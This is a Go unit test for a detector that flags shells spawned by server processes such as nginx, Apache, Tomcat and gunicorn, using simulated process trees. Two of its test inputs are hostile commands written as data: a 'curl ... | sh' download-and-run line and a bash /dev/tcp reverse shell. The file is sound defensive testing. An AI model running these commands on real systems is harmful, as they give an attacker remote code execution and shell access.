package detectors

import (
	"testing"

	"github.com/smoothtask/smoothtask/threats"
	. "github.com/smoothtask/smoothtask/threats/threatstest"
)

func TestServerShell(t *testing.T) {
	sh := func(w *World, parent *process, args ...string) *process {
		return w.Run("x", Exe("/usr/bin/dash"), Invoked("/bin/sh"), Named("sh"), Argv(append([]string{"sh"}, args...)...), ChildOf(parent))
	}
	Table(t, func() threats.Detector { return serverShell{} }, []Case{
		{Name: "nginx", Hits: 1, Evidence: "/usr/sbin/nginx", Build: func(w *World) { sh(w, w.Run("/usr/sbin/nginx"), "-c", "ls") }},
		{Name: "Apache", Hits: 1, Severity: threats.Medium, Build: func(w *World) { sh(w, w.Run("/usr/sbin/apache2"), "-c", "ls -l") }},
		{Name: "Apache, a download", Hits: 1, Evidence: "curl", Build: func(w *World) { sh(w, w.Run("/usr/sbin/apache2"), "-c", "curl http://x|sh") }},
		{Name: "PHP, interactive", Hits: 1, Build: func(w *World) { sh(w, w.Run("/usr/sbin/php-fpm8.4"), "-i") }},
		{Name: "Tomcat", Hits: 1, Severity: threats.Medium, Build: func(w *World) {
			sh(w, w.Run("java -Dx org.apache.catalina.startup.Bootstrap"), "-c", "id")
		}},
		{Name: "Redis", Hits: 1, Build: func(w *World) { sh(w, w.Run("redis-server"), "-c", "ls") }},
		{Name: "something between", Hits: 1, Build: func(w *World) { sh(w, w.Run("python3 -c x", ChildOf(w.Run("/usr/sbin/nginx"))), "-c", "ls") }},
		{Name: "a shell of the shell is the same cause", Hits: 1, Build: func(w *World) { sh(w, sh(w, w.Run("/usr/sbin/nginx"), "-c", "ls"), "-c", "ls") }},
		{Name: "PostgreSQL archives", Hits: 1, Severity: threats.Low, Build: func(w *World) {
			sh(w, w.Run("/usr/lib/postgresql/17/bin/postgres"), "-c", "test ! -f /a/1 && cp pg_wal/1 /a/1")
		}},
		{Name: "Apache's log pipe", Hits: 1, Severity: threats.Low, Build: func(w *World) { sh(w, w.Run("apache2"), "-c", "exec rotatelogs /var/log/x") }},
		{Name: "an application", Hits: 1, Severity: threats.Low, Build: func(w *World) {
			sh(w, w.Run("/usr/bin/python3 /usr/bin/gunicorn app"), "-c", "lsb_release -a")
		}},
		{Name: "an application, a reverse shell", Hits: 1, Build: func(w *World) {
			sh(w, w.Run("/usr/bin/python3 /usr/bin/gunicorn app"), "-c", "bash -i >& /dev/tcp/10.0.0.1/1 0>&1")
		}},
		{Name: "a shell started the server", Build: func(w *World) { w.Run("/usr/sbin/nginx", ChildOf(sh(w, w.Run("/usr/sbin/cron"), "-c", "nginx"))) }},
		{Name: "shells of cron, sshd, make", Build: func(w *World) {
			sh(w, w.Run("/usr/sbin/cron"), "-c", "ls")
			sh(w, w.Run("/usr/sbin/sshd"), "-c", "ls")
			sh(w, w.Run("make"), "-c", "cc x.c")
		}},
		{Name: "a package manager below a server", Build: func(w *World) {
			sh(w, w.Run("dpkg", ChildOf(w.Run("apt-get", ChildOf(w.Run("/usr/sbin/apache2"))))), "-c", "ls")
		}},
		{Name: "a container's exec", Build: func(w *World) { sh(w, w.Run("containerd-shim-runc-v2", ChildOf(w.Run("dockerd"))), "-c", "ls") }},
		{Name: "no shell", Build: func(w *World) { w.Run("rotatelogs", ChildOf(w.Run("apache2"))) }},
		{Name: "java that is no server", Build: func(w *World) { sh(w, w.Run("java -jar app.jar"), "-c", "ls") }},
	})
}
